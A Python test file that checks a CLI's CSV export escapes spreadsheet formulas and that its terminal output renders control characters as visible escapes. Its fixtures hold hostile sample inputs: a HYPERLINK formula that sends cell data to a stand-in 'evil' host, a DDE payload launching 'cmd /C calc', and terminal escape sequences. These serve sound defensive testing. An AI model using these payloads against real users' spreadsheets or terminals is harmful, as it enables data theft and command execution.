"""What the CLI writes from people's text: a CSV export a spreadsheet opens without running
formulas (OWASP "CSV Injection": a text cell starting with =, +, -, @, tab or CR gets a leading
single quote), and terminal output in which control characters are shown, never acted on."""
from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from cli.output import terminal_text
from services.export import csv_bytes, csv_cell
from services.local.workspace import LocalWorkspace
from tests.conftest import copy_workspace
from tests.test_cli import tollgate
from ui.releases_view import audit_csv

FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m\rover\x08\x00\x7f\x9b\u202eevil"


@pytest.fixture(scope="module")
def hostile_ws(demo_template, tmp_path_factory):
    path = copy_workspace(demo_template, tmp_path_factory.mktemp("hostile-cli") / "ws")
    ws = LocalWorkspace(path)
    try:
        for text in FORMULAS:
            ws.audit.record("lead@contoso.com", "comment", text, role="ml_lead", comment=text)
        ws.audit.record(f"lead{ESCAPES}@contoso.com", "comment", "target", role="ml_lead", comment=ESCAPES)
    finally:
        ws.close()
    return path


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_cell_gets_a_quote_and_a_number_stays_a_number(text):
    assert csv_cell(text) == "'" + text
    assert csv_cell(-2.5) == -2.5 and csv_cell(None) == "" and csv_cell("a=b") == "a=b"
    header, row = csv.reader(io.StringIO(csv_bytes(["x"], [[text]]).decode(), newline=""))
    assert header == ["x"] and row == ["'" + text]


def test_the_audit_csv_of_the_cli_escapes_formulas(hostile_ws):
    proc = tollgate(hostile_ws, "audit", "--csv", "--limit", "20")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    comments = {r["comment"] for r in rows}
    for text in FORMULAS:
        assert "'" + terminal_text(text) in comments   # a lone CR is shown as \\r on stdout, as any control
    cells = [v for r in rows for v in r.values()]
    assert not [v for v in cells if v[:1] in ("=", "+", "@", "\t", "\r")], cells


def test_the_audit_csv_of_the_console_escapes_formulas():
    frame = pd.DataFrame({"time": ["2026-01-01T00:00:00+00:00"] * len(FORMULAS), "comment": FORMULAS,
                          "before": [json.dumps({"a": 1})] * len(FORMULAS), "n": [-1] * len(FORMULAS)})
    rows = list(csv.DictReader(io.StringIO(audit_csv(frame).decode())))
    assert [r["comment"] for r in rows] == ["'" + t for t in FORMULAS]
    assert [r["n"] for r in rows] == ["-1"] * len(FORMULAS)     # numbers are not text: left alone


def test_control_characters_in_people_s_text_never_reach_the_terminal(hostile_ws):
    proc = tollgate(hostile_ws, "audit", "--limit", "3")
    assert proc.returncode == 0, proc.stderr
    assert "owned" in proc.stdout                                   # the text is there...
    assert not set(proc.stdout) & {"\x1b", "\x07", "\x08", "\x00", "\x7f", "\x9b", "\u202e"}, proc.stdout
    assert "\\x1b" in proc.stdout                                   # ...its controls shown as escapes
    refused = tollgate(hostile_ws, "approve", "--model", "x", "--version", "1", "--comment", "c",
                       actor=f"eve{ESCAPES.replace(chr(0), '')}")   # argv cannot hold NUL
    assert refused.returncode == 2 and "\x1b" not in refused.stderr and "\\x1b" in refused.stderr


def test_terminal_text_keeps_lines_and_tabs():
    assert terminal_text("a\tb\r\nc\n") == "a\tb\r\nc\n"
    assert terminal_text("\x1b[2J") == "\\x1b[2J"
